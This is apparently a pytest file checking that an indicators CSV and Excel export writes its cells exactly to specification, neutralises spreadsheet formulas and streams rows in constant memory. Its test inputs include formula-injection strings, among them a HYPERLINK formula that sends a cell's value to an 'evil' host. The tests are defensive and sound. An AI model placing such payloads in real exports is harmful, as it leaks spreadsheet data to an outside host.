"""Exports at national scale: the CSV's cells are made in DuckDB yet read exactly as
``format_float`` and ``neutralise_formula`` write them, and the workbook streams its rows to
disk (xlsxwriter's constant-memory mode), so its memory does not grow with the rows."""

from __future__ import annotations

import csv
import io
import random
import tracemalloc
import zipfile

import duckdb
import pytest

from indicators import Catalogue, load_catalogue
from reports import _exports, _spreadsheet, write_csv, write_xlsx
from reports._exports import CSV_COLUMNS, VALUE_COLUMNS, format_float, neutralise_formula
from tests.reports_fixtures import build_warehouse

HOSTILE = ['=HYPERLINK("http://evil/"&A1,"x")', "+1", "-2", "@SUM(A1)", "\tTab", "\r=1",
           "a\rb", "a\nb", "a,b", 'say "hi"', "", " lead", "é=ü", "=", "a\r\nb", "Saint-Malo"]


@pytest.fixture(scope="module")
def catalogue() -> Catalogue:
    return load_catalogue()


def _python_csv(con: duckdb.DuckDBPyConnection, catalogue: Catalogue) -> bytes:
    """The CSV as the rules say, cell by cell in Python: the specification the file meets."""
    meta = {i.id: (i.domain, i.label.en, i.unit.en) for i in catalogue}
    present = {r[0] for r in con.execute("SELECT column_name FROM information_schema.columns "
                                         "WHERE table_name = 'indicator_values'").fetchall()}
    selected = [c if c in present else f"NULL AS {c}" for c in VALUE_COLUMNS]  # older tables
    rows = con.execute(
        f"SELECT indicator_id, {', '.join(selected)} FROM indicator_values "
        "ORDER BY indicator_id, territory_level, territory_code, year, breakdown").fetchall()
    out = io.StringIO(newline="")

    class LineFeeds:  # rows end with LF; CR and LF inside a value are both quoted
        def write(self, line: str) -> int:
            return out.write(line.removesuffix("\r\n") + "\n")

    writer = csv.writer(LineFeeds(), lineterminator="\r\n")
    writer.writerow(CSV_COLUMNS)
    for indicator_id, *values in rows:
        cells = [neutralise_formula(t) for t in (indicator_id, *meta[indicator_id])]
        for name, value in zip(VALUE_COLUMNS, values, strict=True):
            if name in ("value", "numerator", "denominator", "se", "ci_low", "ci_high",
                        "item_nonresponse"):
                cells.append(format_float(value))
            elif isinstance(value, str):
                cells.append(neutralise_formula(value))
            else:
                cells.append("" if value is None else str(value))
        writer.writerow(cells)
    return out.getvalue().encode("utf-8")


def test_the_csv_is_cell_for_cell_what_the_rules_write(catalogue, tmp_path):
    con = build_warehouse(catalogue)
    ids = [i.id for i in catalogue]
    for n, name in enumerate(HOSTILE):
        con.execute("UPDATE indicator_values SET territory_name = ?, status_reason = ? "
                    "WHERE territory_code = '56003' AND indicator_id = ?",
                    [name, HOSTILE[-1 - n], ids[n]])
    rng = random.Random(7)
    floats = [-0.0000001, 0.0078125, 2 ** -20, 1e-9, 123456789.1234565, 0.0, -0.0, 1e15 + 0.3,
              *(rng.uniform(-1e4, 1e4) for _ in range(200))]
    keys = con.execute("SELECT indicator_id, territory_code, year, breakdown "
                       "FROM indicator_values WHERE value IS NOT NULL ORDER BY ALL "
                       "LIMIT ?", [len(floats)]).fetchall()
    for value, key in zip(floats, keys, strict=True):
        con.execute("UPDATE indicator_values SET value = ?, se = ? WHERE indicator_id = ? "
                    "AND territory_code = ? AND year = ? AND breakdown = ?",
                    [value, value / 3, *key])
    written = write_csv(con, catalogue, tmp_path / "indicators.csv").read_bytes()
    expected = _python_csv(con, catalogue)
    assert written == expected
    assert b'"a\rb"' in written  # a CR inside a value is quoted, never a row break
    with (tmp_path / "indicators.csv").open(encoding="utf-8", newline="") as handle:
        names = {row["territory_name"] for row in csv.DictReader(handle)}
    assert {"'=HYPERLINK(\"http://evil/\"&A1,\"x\")", "'+1", "'-2", "'@SUM(A1)", "'\tTab",
            "'\r=1", "'=", "é=ü", " lead", "Saint-Malo"} <= names


def _many_rows(catalogue: Catalogue, copies: int) -> duckdb.DuckDBPyConnection:
    con = build_warehouse(catalogue)
    con.execute("""
        INSERT INTO indicator_values
        SELECT indicator_id, printf('%s-%05d', territory_code, i), territory_level,
               territory_name, year, breakdown, value + i % 17, numerator, denominator, se,
               ci_low, ci_high, n_unweighted, status, status_reason
        FROM indicator_values, range(?) AS t(i)""", [copies])
    return con


def _peak(con: duckdb.DuckDBPyConnection, catalogue: Catalogue, path) -> int:
    tracemalloc.start()
    try:
        write_xlsx(con, catalogue, path)
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_the_workbook_streams_its_rows_so_memory_does_not_grow_with_them(catalogue, tmp_path,
                                                                        monkeypatch):
    monkeypatch.setattr(_exports, "FETCH_ROWS", 500)  # both workbooks far longer than a batch
    small, large = _many_rows(catalogue, 5), _many_rows(catalogue, 20)
    rows = [c.execute("SELECT count(*) FROM indicator_values").fetchone()[0]
            for c in (small, large)]
    assert rows[1] > 3 * rows[0]
    peaks = [_peak(small, catalogue, tmp_path / "small.xlsx"),
             _peak(large, catalogue, tmp_path / "large.xlsx")]
    assert peaks[1] < 1.5 * peaks[0]  # four times the rows, not four times the memory
    with zipfile.ZipFile(tmp_path / "large.xlsx") as archive:
        last = max(int(n.removeprefix("xl/worksheets/sheet").removesuffix(".xml"))
                   for n in archive.namelist() if n.startswith("xl/worksheets/sheet"))
        sheet = archive.read(f"xl/worksheets/sheet{last}.xml")  # the data sheet, the last
    assert b't="inlineStr"' in sheet  # constant-memory mode: strings written with their row


def test_a_split_workbook_streams_too_and_says_so(catalogue, tmp_path, monkeypatch):
    con = _many_rows(catalogue, 2)
    monkeypatch.setattr(_spreadsheet, "SHEET_ROWS", 200)
    write_xlsx(con, catalogue, tmp_path / "split.xlsx")
    with zipfile.ZipFile(tmp_path / "split.xlsx") as archive:
        book = archive.read("xl/workbook.xml").decode()
        readme = archive.read("xl/worksheets/sheet1.xml").decode()
    assert 'name="Data (2)"' in book and 'name="Data (9)"' in book
    assert "continue the sheet Data" in readme
